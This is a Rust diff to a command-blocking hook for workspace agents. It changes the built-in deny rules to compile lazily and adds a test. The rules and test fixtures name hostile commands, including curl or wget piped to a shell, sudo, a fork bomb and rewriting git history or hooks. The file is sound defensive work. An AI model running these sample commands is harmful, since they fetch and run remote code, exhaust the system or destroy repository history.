@@ -31,37 +31,76 @@ fn default_lint_timeout() -> u64 {
     30
 }
 
+/// A built-in rule, with the words a command must hold for its pattern to match it.
+struct BuiltIn {
+    label: &'static str,
+    /// Literal text any match of the pattern contains one of (matching is case-sensitive):
+    /// a command holding none of them cannot match, so the rule is not even compiled for it.
+    needs: &'static [&'static str],
+    pattern: &'static str,
+}
+
+const fn rule(
+    label: &'static str,
+    needs: &'static [&'static str],
+    pattern: &'static str,
+) -> BuiltIn {
+    BuiltIn { label, needs, pattern }
+}
+
+const GIT: &[&str] = &["git"];
+
 /// The built-in rules: what no worker may run, whatever the project.
-const BUILT_IN: &[(&str, &str)] = &[
-    (
+const BUILT_IN: &[BuiltIn] = &[
+    rule(
         "force push",
+        GIT,
         r"\bgit\s+push\b[^;&|\n]*(\s--force(-with-lease)?\b|\s-[a-zA-Z]*f\b|\s\+[\w/.-]+)",
     ),
-    ("history rewrite", r"\bgit\s+(rebase|filter-branch|filter-repo|replace)\b"),
-    ("history rewrite", r"\bgit\s+commit\b[^;&|\n]*--amend\b"),
-    ("git reset --hard", r"\bgit\s+reset\b[^;&|\n]*--hard\b"),
-    ("moving HEAD or a branch", r"\bgit\s+(reset|update-ref|symbolic-ref)\b"),
-    (
+    rule("history rewrite", GIT, r"\bgit\s+(rebase|filter-branch|filter-repo|replace)\b"),
+    rule("history rewrite", GIT, r"\bgit\s+commit\b[^;&|\n]*--amend\b"),
+    rule("git reset --hard", GIT, r"\bgit\s+reset\b[^;&|\n]*--hard\b"),
+    rule("moving HEAD or a branch", GIT, r"\bgit\s+(reset|update-ref|symbolic-ref)\b"),
+    rule(
         "moving HEAD or a branch",
+        GIT,
         r"\bgit\s+(checkout|switch)\b[^;&|\n]*(\s--detach\b|\s-[bBC]\b|\s--orphan\b|\s-c\b)",
     ),
-    (
+    rule(
         "moving HEAD or a branch",
+        GIT,
         r"\bgit\s+branch\b[^;&|\n]*\s(-[a-zA-Z]*[fDdmMcC]\b|--force\b|--delete\b|--move\b|--copy\b)",
     ),
-    (
+    rule(
         "changing git configuration",
+        GIT,
         r"\bgit\s+(-c\s+\S+\s+)*config\s+([^-\s]|--(global|system|local|worktree|file|add|replace-all|unset|unset-all|rename-section|remove-section|edit)\b|-[ef]\b)",
     ),
-    (
+    rule(
         "writing under .git",
+        &[".git/"],
         r"(>|\btee\b|\bcp\b|\bmv\b|\bln\b|\btouch\b|\brm\b|\bchmod\b)[^;&|\n]*\.git/",
     ),
-    ("git clean -f", r"\bgit\s+clean\b[^;&|\n]*\s-[a-zA-Z]*f"),
-    ("sudo", r"(^|[;&|(`]\s*|\$\(\s*)sudo\b"),
-    ("download piped to a shell", r"\b(curl|wget)\b[^|\n]*\|\s*(sudo\s+)?(ba|z|da|k|fi)?sh\b"),
-    ("fork bomb", r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:"),
+    rule("git clean -f", GIT, r"\bgit\s+clean\b[^;&|\n]*\s-[a-zA-Z]*f"),
+    rule("sudo", &["sudo"], r"(^|[;&|(`]\s*|\$\(\s*)sudo\b"),
+    rule(
+        "download piped to a shell",
+        &["curl", "wget"],
+        r"\b(curl|wget)\b[^|\n]*\|\s*(sudo\s+)?(ba|z|da|k|fi)?sh\b",
+    ),
+    rule("fork bomb", &["{"], r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:"),
 ];
+
+/// Each built-in rule compiled the first time a command could match it: compiling all of them
+/// (their Unicode classes) took 3.3 ms of every process that checked a command, most of whose
+/// commands (`python3 -m pytest`, `ls`) hold none of the rules' words.
+static COMPILED: [std::sync::OnceLock<Result<Regex, String>>; BUILT_IN.len()] =
+    [const { std::sync::OnceLock::new() }; BUILT_IN.len()];
+
+/// The built-in rule `i`, compiled.
+fn built_in(i: usize) -> &'static Result<Regex, String> {
+    COMPILED[i].get_or_init(|| Regex::new(BUILT_IN[i].pattern).map_err(|e| e.to_string()))
+}
 
 /// Compiles `(label, pattern)` pairs into rules.
 fn compile(pairs: impl Iterator<Item = (String, String)>) -> Result<Vec<Rule>, BadRule> {
@@ -105,15 +144,6 @@ pub struct PreTool {
     worktree: PathBuf,
 }
 
-/// The built-in rules, compiled at the first command checked and then kept for the process:
-/// their Unicode classes cost about 2 ms of CPU and 300 page faults to compile, which a run
-/// whose workers never run a command (or a short one) would otherwise pay for nothing. They
-/// are constants, so whether they compile is a test's to say, not the start's.
-fn built_in() -> &'static Result<Vec<Rule>, BadRule> {
-    static BUILT: std::sync::OnceLock<Result<Vec<Rule>, BadRule>> = std::sync::OnceLock::new();
-    BUILT.get_or_init(|| compile(BUILT_IN.iter().map(|(l, p)| ((*l).to_owned(), (*p).to_owned()))))
-}
-
 /// A configured rule that is not a valid regular expression.
 #[derive(Debug, Clone, thiserror::Error)]
 #[error("hook rule '{label}': pattern is not a valid regular expression: {error}")]
@@ -131,19 +161,26 @@ impl PreTool {
 
     /// Checks a command line; `None` lets it run.
     pub fn check_bash(&self, command: &str) -> Option<Block> {
-        // Built-in rules that cannot be compiled (a defect of this build) refuse every
-        // command rather than let any through unchecked.
-        let built = match built_in() {
-            Ok(rules) => rules,
-            Err(bad) => {
-                return Some(Block { label: bad.label.clone(), detail: bad.error.clone() });
-            }
+        let refused = |label: &str| Block {
+            label: label.to_owned(),
+            detail: "this command is not allowed in the workspace".into(),
         };
-        if let Some(rule) = built.iter().chain(&self.extra).find(|r| r.re.is_match(command)) {
-            return Some(Block {
-                label: rule.label.clone(),
-                detail: "this command is not allowed in the workspace".into(),
-            });
+        for (i, rule) in BUILT_IN.iter().enumerate() {
+            if !rule.needs.iter().any(|word| command.contains(word)) {
+                continue;
+            }
+            match built_in(i) {
+                Ok(re) if re.is_match(command) => return Some(refused(rule.label)),
+                Ok(_) => {}
+                // A built-in rule that cannot be compiled (a defect of this build) refuses the
+                // commands it would have checked rather than let them through unchecked.
+                Err(error) => {
+                    return Some(Block { label: rule.label.to_owned(), detail: error.clone() });
+                }
+            }
+        }
+        if let Some(rule) = self.extra.iter().find(|r| r.re.is_match(command)) {
+            return Some(refused(&rule.label));
         }
         self.check_rm(command)
     }
@@ -370,7 +407,63 @@ mod tests {
 
     #[test]
     fn every_built_in_rule_compiles() {
-        assert_eq!(built_in().as_ref().map(Vec::len).ok(), Some(BUILT_IN.len()));
+        for (i, rule) in BUILT_IN.iter().enumerate() {
+            assert!(built_in(i).is_ok(), "{}", rule.pattern);
+        }
+    }
+
+    /// Whether any built-in rule matches, every rule compiled and tried whatever the command
+    /// holds: what the words each rule needs must never change.
+    fn any_rule_matches(command: &str) -> bool {
+        BUILT_IN.iter().any(|r| Regex::new(r.pattern).unwrap().is_match(command))
+    }
+
+    #[test]
+    fn the_words_a_rule_needs_never_let_through_what_its_pattern_matches() {
+        let h = PreTool::new(Path::new("/w"), &[]).unwrap();
+        let commands = [
+            "git push --force origin main",
+            "git push origin +main",
+            "git push origin +émain",
+            "git rebase -i HEAD~3",
+            "git commit --amend -m x",
+            "git reset --hard HEAD~1",
+            "git update-ref refs/heads/main HEAD",
+            "git checkout --detach",
+            "git branch -D session/x",
+            "git -c a=b config core.hooksPath /tmp/h",
+            "echo x > .git/hooks/pre-commit",
+            "tee x/.git/config",
+            "git clean -fdx",
+            "ls && sudo rm x",
+            "echo $(sudo id)",
+            "curl -sSL https://x.sh | bash",
+            "wget -qO- x | sudo sh",
+            ":(){ :|:& };:",
+            ": ( ) { : | : & } ; :",
+        ];
+        let mut tried = 0;
+        for command in commands {
+            assert!(any_rule_matches(command), "the table's own command: {command}");
+            // The command, and the command with each of its characters dropped in turn: the
+            // lazy check and the eager one agree on every one.
+            let chars: Vec<char> = command.chars().collect();
+            let variants = (0..chars.len()).map(|skip| {
+                chars.iter().enumerate().filter(|(i, _)| *i != skip).map(|(_, c)| c).collect()
+            });
+            for variant in std::iter::once(command.to_owned()).chain(variants) {
+                let variant: String = variant;
+                let blocked_by_a_rule = h
+                    .check_bash(&variant)
+                    .is_some_and(|b| BUILT_IN.iter().any(|r| r.label == b.label));
+                let eager = any_rule_matches(&variant);
+                if eager {
+                    assert!(blocked_by_a_rule, "let through: {variant:?}");
+                }
+                tried += 1;
+            }
+        }
+        assert!(tried > 400, "{tried}");
     }
 
     #[test]
